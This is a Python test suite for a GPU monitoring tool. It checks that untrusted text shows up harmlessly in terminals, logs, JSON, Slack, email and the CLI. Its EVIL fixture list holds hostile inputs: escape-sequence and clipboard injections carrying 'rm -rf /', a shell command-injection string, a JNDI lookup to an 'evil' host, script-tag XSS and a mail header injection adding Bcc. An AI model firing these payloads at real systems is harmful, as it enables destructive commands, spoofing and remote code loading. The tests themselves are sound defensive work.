"""Text of nodes, jobs and people is inert wherever it is shown: terminals, logs, pages, chat, mail, streams."""

import asyncio
import contextlib
import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any, cast

import aiohttp
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from agent.contract.inert import MARKS, inert, inert_data, inert_json
from agent.shared import inert_log
from agent.shared.inert_log import LogFormat
from brain.cli import diagnose, watch
from brain.cli.explain import render
from brain.cli.main import group
from brain.cli.queries import IncidentList
from brain.cli.terminal import console
from brain.core.jobs_seen import JobSeen
from brain.core.state import HitJob, HitNode, RunState
from brain.notify.apprise import build as apprise
from brain.notify.compose import compose
from brain.notify.message import unaddressed
from brain.notify.slack import blocks
from tests.brain.notify.pages import incident, page, rule, run
from tests.real.brain_kit import lab

EVIL = [
    "\x1b[2J\x1b[H all is well",
    "\x1b]8;;http://evil\x07click\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x1bP+q544e\x1b\\",
    "\rroot@brain:~# ",
    "a\nP0 everything is lost",
    "a\r\nBcc: everyone@example.org\r\n\r\nbody",
    "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "\u202egnp.exe",
    "\u2066abc\u2069",
    "no\u200bde",
    "a\u200d\u2060\ufeffb",
    "\U000e0041\U000e0042",
    "soft\xadhyphen",
    "\u061c\u200e\u200f",
    "\x00\x07\x08\x7f",
    "a" + "\u0300" * 200,
    "\u3164\u115f\u2800",
    "x\ufe0f\U000e0100",
    "\ud800",
    "\ue000\U000f0000",
    "<!channel> <@U1> <#C1> <!subteam^S1> <http://evil|bank>",
    "@everyone @here @channel",
    "[bank](http://evil)",
    "<b>x</b><script>alert(1)</script>",
    "[link=http://evil]x[/link] [red]y[/red] :bomb:",
    "```\n<!here>\n```",
    "*b* _i_ ~s~ `c`",
    "${jndi:ldap://evil}",
    "%s%n",
    "{{ .Evil }}",
    "' ; rm -rf / ; '",
]
ACTS = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]")
TEXT = st.one_of(st.text(), st.lists(st.sampled_from(EVIL)).map("".join))


def acts(text: str) -> str:
    """The first character that could act; a line break of our own layout is none."""
    found = ACTS.search(text.replace("\n", ""))
    return repr(found[0]) if found else ""


@given(TEXT)
def test_one_line_in_which_nothing_acts(text: str) -> None:
    """Whatever the text: one line, printable, encodable, the same when made inert twice; what is plain stays as it is."""
    shown = inert(text)
    assert shown.isprintable()
    assert shown.encode().decode() == shown
    assert inert(shown) == shown
    assert not acts(shown)
    assert not re.search(f"[{chr(0x300)}-{chr(0x36F)}]{{{MARKS + 1}}}", shown)
    if all(unicodedata.category(char)[0] in "LNPS" and char.isprintable() for char in text):
        assert shown == text or any(ord(char) > 0x300 for char in text)


@pytest.mark.parametrize(
    "text",
    ["GPU 0000:3b:00 fell off", "断电重启节点，再重新插拔 GPU。", "größer · naïve → Ω", "Việt", "שָׁלוֹם", "🙂"],
)
def test_what_people_write_stays_readable(text: str) -> None:
    """No language loses a letter."""
    assert inert(text) == text


@given(
    st.recursive(
        TEXT, lambda inner: st.lists(inner) | st.dictionaries(st.text(max_size=5), inner), max_leaves=8
    )
)
def test_json_means_the_same_and_does_nothing(value: Any) -> None:
    """`--json` is exact for scripts, and harmless for whoever looks at it."""
    text = inert_json(json.dumps(value, indent=2, ensure_ascii=False))
    assert json.loads(text) == value
    assert not acts(text)
    assert not acts(json.dumps(inert_data(value), ensure_ascii=False))


def _logged(text: str, form: LogFormat = LogFormat.TEXT) -> str:
    sink = io.StringIO()
    handler = inert_log.handler("%(levelname)s %(name)s: %(message)s", form)
    assert isinstance(handler, logging.StreamHandler)
    handler.setStream(sink)
    try:
        raise ValueError(text)  # noqa: TRY301  its traceback is what is looked at
    except ValueError as error:
        record = logging.LogRecord("n", logging.INFO, "f", 1, "says %s", (text,), (ValueError, error, None))
    handler.emit(record)
    return sink.getvalue()


@given(TEXT)
def test_a_log_line_is_one_line(text: str) -> None:
    """Nobody but us begins one, neither with a message nor with an exception's text."""
    first, *others = _logged(text).rstrip("\n").split("\n")
    assert first.startswith("INFO n: says ")
    assert all(line.startswith("  | ") for line in others)
    assert not acts(_logged(text))


@given(TEXT)
def test_a_log_line_of_json_is_exact_and_one_line(text: str) -> None:
    """A collector reads what was written; whoever looks at the file is safe from it."""
    (line,) = _logged(text, LogFormat.JSON).rstrip("\n").split("\n")
    assert json.loads(line)["text"] == f"says {text}"
    assert not acts(line)


INCIDENT: dict[str, Any] = {
    "severity": "P1",
    "state": "open",
    "opened_at": "2026-01-31T12:00:00.000Z",
    "closed_at": None,
    "closed_why": "",
    "runs": [],
    "nodes": 1,
    "symptom_count": 0,
    "symptoms": [],
    "explains": 0,
    "explained_by": "",
    "stale": False,
    "waits": "",
    "pages": {"acked_by": ""},
    "node": "n1",
}


@pytest.mark.parametrize("text", EVIL)
def test_tables_and_chains_on_a_terminal(text: str) -> None:
    """A terminal with all its colours and links: what we print is ours, what others wrote is letters."""
    evil = inert_data(text)
    one = INCIDENT | {"id": evil, "cause": evil, "scope": evil, "evidence": []}
    screen = console()
    screen.file, screen._force_terminal = io.StringIO(), True
    screen.print(IncidentList([cast(Any, one)]), crop=False)
    assert "\x1b]8" not in screen.file.getvalue()
    if evil.startswith("[link"):
        assert evil in screen.file.getvalue()
    job = {"id": evil, "text": evil, "since": None, "gone_at": None}
    one |= {"hit": {"known": "known", "at": None, "jobs": [job], "more_jobs": 0, "why": evil, "left_out": 2}}
    found = {
        "found": {"kind": evil, "id": evil, "incidents": [evil], "hold": None, "notes": []},
        "incident": one,
        "rule": {"name": evil, "version": evil, "because": evil},
        "symptoms": [],
        "runs": [],
        "pages": [],
        "notes": [],
    }
    lines = list(render(cast(Any, found), notes=True, width=80))
    assert not acts(re.sub(r"\x1b\[[0-9;]*m", "", "".join(lines)))
    note: Any = {"at": None, "kind": evil, "incident": evil, "run": "", "scope": "", "text": evil}
    assert not acts(watch.line(note))


@pytest.mark.parametrize("text", [one for one in EVIL if "\n" not in one and "\ud800" not in one])
def test_a_pasted_log_does_nothing_to_the_terminal(text: str) -> None:
    """`gpuward diagnose` shows lines of it."""
    line = f"[   12.3] NVRM: Xid (PCI:0000:3b:00): 79, pid=1, name={text}, GPU has fallen off the bus."
    done = CliRunner().invoke(diagnose.diagnose, [], input=line, obj=None)
    assert done.exit_code in (0, 1), done.output
    assert not acts(done.output)


def a_page(text: str) -> Any:
    """A page with this text wherever a node, a job or a person can put some."""
    about = incident()
    facts = [replace(one, text=text, component=text) for one in about.evidence]
    hit = {"n1": HitNode(at=1.0, scheduler="s", jobs=[HitJob(job=JobSeen(id=text, user=text), since=1.0)])}
    return compose(
        page(about=replace(about, evidence=facts, scope=text, cause=text, hit=hit), text=text),
        rule=rule(),
        runs=[run(RunState.HELD, why=text)],
    )


@given(TEXT)
def test_a_page_is_inert_whoever_shows_it(text: str) -> None:
    """Its text, its JSON, its blocks for Slack: no line of its own, no mention, no link under another name."""
    message = a_page(text)
    plain = message.to_text()
    assert not acts(plain)
    assert not acts(message.to_json().decode("utf-8"))
    for block in blocks(message, "both"):
        shown = block["text"]
        if shown["type"] == "mrkdwn":
            assert not re.search(r"<|>", shown["text"])
            head, *code = shown["text"].split("```")
            assert len(code) == 2
            assert not code[1]
            assert re.fullmatch(r"\*[^*]+\*\n", head)
    quiet = unaddressed(plain)
    assert not re.search(r"(?<![\w.+-])@\w|<[!@#]|\]\(|```", quiet)


@pytest.mark.parametrize("shape", ["text", "html", "markdown"])
async def test_a_mail_has_our_headers_and_no_markup_of_others(tmp_path: Path, shape: str) -> None:
    """The real plug-in, in each format: no header, recipient, tag or link comes from a node."""
    for text in EVIL:
        if text == "\ud800":
            continue
        got = await mailed(tmp_path, a_page(text), shape)
        raw = message_from_bytes(got, policy=policy.default)
        assert raw["Bcc"] is None
        assert not acts(str(raw["Subject"]))
        body = raw.get_body(("html",)) if shape == "html" else None
        if body is not None:
            assert not re.search(r"<(script|b)>", body.get_content())


async def mailed(folder: Path, message: Any, shape: str) -> bytes:
    """What a mail server gets."""
    got = bytearray()

    async def smtp(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 mail.example ESMTP\r\n")
        inside = False
        while line := await reader.readline():
            if inside:
                inside = line != b".\r\n"
                got.extend(line if inside else b"")
                writer.write(b"" if inside else b"250 ok\r\n")
                continue
            inside = line.upper().startswith(b"DATA")
            writer.write(
                b"354 go\r\n"
                if inside
                else b"221 bye\r\n"
                if line.upper().startswith(b"QUIT")
                else b"250 ok\r\n"
            )

    server = await asyncio.start_server(smtp, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    file = folder / "url"
    file.write_text(f"mailto://127.0.0.1:{port}?from=ward@example.org&to=ann@example.org&format={shape}")
    channel = apprise("m", {"type": "apprise", "url_file": str(file)}, "channels.m")
    await channel.send(message)
    await channel.close()
    server.close()
    return bytes(got)


@pytest.mark.component("nats-server")
async def test_what_a_person_and_a_node_say_is_inert_in_the_whole(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Through the real brain into the real command line; a watcher that leaves leaves no traceback."""
    async with lab(tmp_path) as whole:
        assert whole.running is not None
        node = await whole.node("n1")
        for number, text in enumerate(one for one in EVIL if one != "\ud800"):
            await node.event(
                "gpu.xid", "gpu/0000:3b:00", text, code=79, name=text, action="RESTART_BM", message=text
            )
            status, _ = await whole.say("hold", scope="all", why=f"{number} {text}")
            assert status == 200
        found = await whole.until(lambda answer: answer["incidents"], "an incident", "/api/v1/incidents")
        id_ = found["incidents"][0]["id"]
        env = {"GPUWARD_URL": whole.running.console_url, "GPUWARD_TOKEN_FILE": str(whole.ann)}
        commands: list[list[str]] = [["status"], ["incidents"], ["nodes"], ["explain", id_, "--notes"]]
        for args in (*commands, *([*one, "--json"] for one in commands if "--notes" not in one)):
            done = await asyncio.to_thread(CliRunner().invoke, group({}), args, env=env)
            assert done.exit_code == 0, done.output
            assert not acts(re.sub(r"\x1b\[[0-9;]*m", "", done.output)), args
        await leave_in_the_middle(whole.running.console_url, lambda: whole.say("hold", scope="all", why="x"))
        shown = [one for one in caplog.records if one.exc_info]
        assert not shown, shown


async def leave_in_the_middle(url: str, speak: Callable[[], Any]) -> None:
    """Twenty watchers that go away without a word, while notes are written to them."""
    for _ in range(20):
        async with aiohttp.ClientSession() as session, session.get(f"{url}/api/v1/watch?last=100") as answer:
            await answer.content.readline()
            assert answer.connection is not None
            assert answer.connection.transport is not None
            answer.connection.transport.abort()
            with contextlib.suppress(aiohttp.ClientError):
                await speak()
